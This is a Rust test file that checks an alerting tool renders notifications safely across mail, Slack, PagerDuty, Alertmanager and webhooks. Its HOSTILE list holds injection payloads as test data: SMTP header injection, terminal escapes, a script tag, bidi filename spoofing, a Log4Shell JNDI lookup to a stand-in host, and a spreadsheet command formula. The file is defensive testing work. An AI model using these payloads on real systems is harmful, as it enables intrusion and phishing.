//! Rendered messages, and a corpus of hostile strings that must come out harmless.

use super::*;
use crate::event::{Stage, hash16};

/// Strings with which someone might try to break out of a channel.
const HOSTILE: &[&str] = &[
    "a\r\nBcc: everyone@example.com",
    "a\nb\rc\u{0}d\u{7}e\u{1b}[2J\u{1b}]0;owned\u{7}",
    "\u{9b}31mred\u{85}next",
    "\r\n.\r\nMAIL FROM:<x@example.com>\r\n",
    "<!channel> <@U012AB3CD> <https://evil.example|click>",
    "</section><script>alert(1)</script>",
    "model\u{202e}gpj.exe\u{202c}\u{2066}x\u{2069}\u{200f}",
    "zero\u{200b}width\u{feff}\u{2060}joined\u{200d}",
    "tag\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}",
    "line\u{2028}para\u{2029}end",
    "${jndi:ldap://evil.example/a} %s %n {{7*7}}",
    "=cmd|' /C calc'!A0",
    "inj-see-https://evil.example/login",
    "https://evil.example/ack",
    "WWW.evil.example and hTTps://www.evil.example",
    "https:\u{200b}//evil.example",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
];

fn notification(hostile: &str) -> Notification {
    Notification {
        key: hash16("t", &[b"key"]).to_string(),
        number: 3,
        dedup_key: hash16("t", &[b"dedup"]).to_string(),
        kind: NotificationKind::Firing,
        severity: Severity::Critical,
        stage: Stage::Page,
        detector: "leak".into(),
        rule: "leak-cross-user".into(),
        title: "a value of one user was sent to another".into(),
        tenant: format!("acme{hostile}").into(),
        subject: format!("value:k7{hostile}").into(),
        user: Some("k7:AAAAAAAAAAAAAAAAAAAAAA".into()),
        gateway: Some("gw-eu-1".into()),
        event: None,
        members: Vec::new(),
        more: 0,
        over: 0,
        was: None,
        until_ms: None,
        model: Some(format!("gpt-4o{hostile}").into()),
        since_ms: 1_800_000_000_000,
        at_ms: 1_800_000_125_000,
        findings: 2,
        reason: format!("2 candidates in 4 min{hostile}"),
        runbook: "deploy/runbooks/leak.md".to_owned(),
        silence_command: "veilwatch silence add --for 2h --comment 'why' 'rule=leak-cross-user' 'subject=value:k7'".to_owned(),
    }
}

fn message(hostile: &str) -> Message {
    Message {
        id: "00112233445566778899aabbccddeeff-0".to_owned(),
        notification: notification(hostile),
    }
}

/// The only link that a message may hold.
const RUNBOOKS: &str = "https://runbooks.acme.example/";

/// Nothing that moves a cursor, ends a header, hides, turns direction, or is made a link.
fn is_inert(s: &str) -> bool {
    let strangers = s.replace(RUNBOOKS, "").to_ascii_lowercase();
    !strangers.contains("://") && !strangers.contains("www.") && s.chars().all(|c| {
        !c.is_control()
            && !matches!(c, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}')
    })
}

fn strings(v: &Value, out: &mut Vec<String>) {
    match v {
        Value::String(s) => out.push(s.clone()),
        Value::Array(a) => a.iter().for_each(|v| strings(v, out)),
        Value::Object(o) => o.values().for_each(|v| strings(v, out)),
        _ => {}
    }
}

#[test]
fn f52_hostile_strings_are_inert_in_every_channel() {
    let mut plain = notification("");
    plain.members = vec!["another".to_owned()];
    for h in HOSTILE {
        let mut m = message(h);
        m.notification.rule = (*h).into();
        m.notification.title = format!("inj{h}");
        m.notification.members = vec![(*h).to_owned()];
        m.notification.runbook = format!("{RUNBOOKS}leak.md");
        let n = &m.notification;
        for v in [webhook(&m), slack(n), alertmanager(n), json!(mail(n))] {
            assert!(v.to_string().contains(&n.runbook), "the runbook is a link");
        }
        assert!(is_inert(&subject(n)), "{h:?}");
        for line in mail(n).lines() {
            assert!(is_inert(line), "{h:?}: {line:?}");
        }
        // A name of a stranger starts no line of its own.
        assert_eq!(
            mail(n).lines().count(),
            mail(&plain).lines().count(),
            "{h:?}"
        );
        for v in [webhook(&m), pagerduty(n, "k"), slack(n), alertmanager(n)] {
            let mut all = Vec::new();
            strings(&v, &mut all);
            for s in all {
                assert!(is_inert(&s), "{h:?}: {s:?}");
            }
        }
        let fallback = slack(n)["text"]
            .as_str()
            .map(str::to_owned)
            .unwrap_or_default();
        assert!(!fallback.contains(['<', '>']), "{fallback:?}");
        let mut blocks = Vec::new();
        let v = slack(n);
        for b in v["blocks"].as_array().into_iter().flatten() {
            blocks.push(b["text"]["type"].as_str().unwrap_or_default().to_owned());
        }
        assert!(blocks.iter().all(|t| t == "plain_text"), "{blocks:?}");
    }
}

#[test]
fn f52_lengths_are_bounded_in_every_channel() {
    let long = "é".repeat(1_000_000);
    let m = message(&long);
    assert!(webhook(&m).to_string().len() < 20_000);
    assert!(slack(&m.notification).to_string().len() < 13_000);
    assert!(pagerduty(&m.notification, "k").to_string().len() < 64_000);
    assert!(subject(&m.notification).chars().count() <= SUBJECT + 1);
    let zalgo = format!("x{}", "\u{301}".repeat(100_000));
    assert!(inert(&zalgo, 10).len() <= 100);
}

#[test]
fn ordinary_text_is_left_alone() {
    for s in [
        "acme/support-eu",
        "gpt-4o@2024-08-06",
        "Grüße, 東京",
        "k7:Jm3_x-1",
        "👩‍🔬",
    ] {
        let shown = inert(s, 100);
        // The joiner inside an emoji is made visible: names have no use for it.
        assert_eq!(shown.replace("\\u{200d}", "\u{200d}"), s);
    }
    assert_eq!(inert("abcdef", 3), "abc…");
    assert_eq!(inert("", 3), "");
}

#[test]
fn a_mail_says_what_a_reader_asks() {
    insta::assert_snapshot!(subject(&notification("")), @"[critical] opened: a value of one user was sent to another (acme) #3");
    let text = mail(&notification(""));
    let shown = include_str!("../../../README.md");
    assert!(shown.contains(text.trim()), "the README shows another page");
    insta::assert_snapshot!(text);
}

#[test]
fn a_webhook_says_the_same() {
    insta::assert_json_snapshot!(webhook(&message("")));
}

#[test]
fn pager_chat_and_alertmanager() {
    let n = notification("");
    insta::assert_json_snapshot!(serde_json::json!({
        "pagerduty": pagerduty(&n, "key"),
        "slack": slack(&n),
        "alertmanager": alertmanager(&n),
    }));
    let mut resolved = notification("");
    resolved.kind = NotificationKind::Resolved;
    assert_eq!(pagerduty(&resolved, "key")["event_action"], "resolve");
    assert_eq!(
        alertmanager(&resolved)[0]["endsAt"],
        Time(resolved.at_ms).to_string()
    );
    assert_eq!(
        webhook(&Message {
            id: "x-1".into(),
            notification: resolved
        })["type"],
        "incident.resolved"
    );
}

#[test]
fn alertmanager_keeps_an_alert_until_we_say_it_is_over() {
    let mut n = notification("");
    n.until_ms = Some(n.at_ms + 8 * 3_600_000);
    let firing = alertmanager(&n);
    assert_eq!(
        firing[0]["endsAt"],
        Time(n.at_ms + 8 * 3_600_000).to_string()
    );
    // It became worse: another alert for Alertmanager, so the old one ends.
    n.was = Some(Severity::High);
    let worse = alertmanager(&n);
    assert_eq!(worse[0]["labels"]["severity"], "critical");
    assert_eq!(worse[0]["endsAt"], firing[0]["endsAt"]);
    assert_eq!(worse[1]["labels"]["severity"], "high");
    assert_eq!(worse[1]["endsAt"], Time(n.at_ms).to_string());
    assert_eq!(
        worse[1]["labels"]["incident"],
        worse[0]["labels"]["incident"]
    );
    // Over: under every name it went by.
    (n.kind, n.until_ms) = (NotificationKind::Resolved, None);
    let over = alertmanager(&n);
    for alert in over.as_array().expect("alerts") {
        assert_eq!(alert["endsAt"], Time(n.at_ms).to_string());
    }
    assert_eq!(over.as_array().map(Vec::len), Some(2));
}

#[test]
fn a_large_group_is_counted_not_listed() {
    let mut n = notification("");
    n.members = (0..MEMBERS).map(|i| format!("m{i}")).collect();
    (n.more, n.over) = (490, 7);
    assert!(mail(&n).contains("m9; and 490 more; 7 are over"));
    let v = webhook(&Message {
        id: "x-1".into(),
        notification: n,
    });
    assert_eq!(
        (&v["data"]["members_more"], &v["data"]["members_over"]),
        (&490.into(), &7.into())
    );
}
